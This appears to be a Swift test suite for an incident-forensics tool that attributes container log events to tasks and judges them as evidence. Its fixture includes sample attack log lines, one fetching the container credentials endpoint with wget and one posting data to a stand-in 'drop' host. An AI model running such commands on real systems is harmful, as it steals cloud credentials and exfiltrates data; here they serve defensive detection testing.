import FleetModel
import Incident
import Testing

/// Log events of containers joined to tasks, and what they mean for step 1.
@Suite struct LogExportStoryTests {
  private static func messages() -> [(time: Timestamp, text: String)] {
    [
      (VerdictStory.at("09:39:10"), "runner started"),
      (VerdictStory.at("09:40:10"), "wget -O- http://169.254.170.2/v2/credentials/"),
      (VerdictStory.at("09:50:10"), "POST https://203.0.113.80:443/drop 200"),
      (VerdictStory.at("09:50:20"), "resolved 192.0.2.44 and 10.0.0.1"),
      (
        VerdictStory.at("09:51:00"),
        #"{"level":"error","msg":"AccessDenied: not authorized to perform: s3:DeleteObject"}"#
      ),
    ]
  }

  private enum Shape: CaseIterable { case exported, filtered, tailed }

  private static func story(_ shape: Shape) throws -> EvidenceStory {
    var story = EvidenceStory()
    let task = try #require(story.story.rogue)
    let export = LogExport(of: task, messages())
    story.files =
      switch shape {
      case .exported:
        [
          ("\(export.folder)/000000", export.exported),
          ("aws-logs-write-test", "Permission Check Successful"),
        ]
      case .filtered: [("filtered.json", export.filtered)]
      case .tailed: [("tail.txt", export.tailed)]
      }
    return story
  }

  @Test(arguments: Shape.allCases) private func hitsAreOnTheTimelineOfTheTask(shape: Shape) throws {
    let story = try Self.story(shape)
    let outcome = try story.analyzed()
    let task = try #require(story.story.rogue).id
    let hits = outcome.evidence
    #expect(
      hits.map { "\($0.eventTime)" } == [
        "2026-04-14T09:40:10Z", "2026-04-14T09:50:10Z", "2026-04-14T09:51:00Z",
      ])
    #expect(hits.allSatisfy { $0.task == task && $0.stage == .task && $0.runner == "prod-runner" })
    #expect(hits.allSatisfy { $0.source.kind == .logExport && $0.attribution.method == .taskId })
    #expect(hits[0].summary.contains("169.254.170.2"))
    #expect(outcome.result.summary.evidence.messages == 5)
    #expect(outcome.result.summary.messageEntries == 3)
    #expect(outcome.result.summary.logExports == 1)
  }

  @Test(arguments: Shape.allCases) private func logsOfTheIncidentAreEvidence(shape: Shape) throws {
    var story = try Self.story(shape)
    let verdict = try story.analyzed().verdict("review-logs")
    #expect(verdict.status == .done)
    #expect(verdict.evidence.count == 1)
    #expect(verdict.evidence[0].hasPrefix("log-stream:"))
    #expect(verdict.note.contains("log events of the incident are at hand"))
    #expect(verdict.note.contains("Log events of its tasks name what matters here"))
    story.files = []
    #expect(try story.analyzed().verdict("review-logs").status == .notSeen)
  }

  @Test func logsOfEarlierHoursProveNothing() throws {
    var story = EvidenceStory()
    let export = LogExport(of: story.story.task, [(VerdictStory.at("08:21"), "fine")])
    story.files = [("tail.txt", export.tailed)]
    #expect(try story.analyzed().verdict("review-logs").status == .notSeen)
  }

  @Test func logsOfATaskThatNobodyStartedAreNobodys() throws {
    var story = EvidenceStory()
    var task = story.story.task
    task.id = String(repeating: "ab", count: 16)
    story.files = [("tail.txt", LogExport(of: task, Self.messages()).tailed)]
    let outcome = try story.analyzed()
    #expect(outcome.evidence.isEmpty)
    #expect(outcome.result.summary.evidence.messages == 5)
    #expect(try outcome.verdict("review-logs").status == .notSeen)
  }

  @Test func jobsDoNotMatter() throws {
    var story = try Self.story(.exported)
    story.files += try Self.story(.filtered).files
    let one = try story.analyzed(jobs: 1)
    let four = try story.analyzed(jobs: 4)
    #expect(one.timeline == four.timeline)
    #expect(one.result.steps == four.result.steps)
  }
}
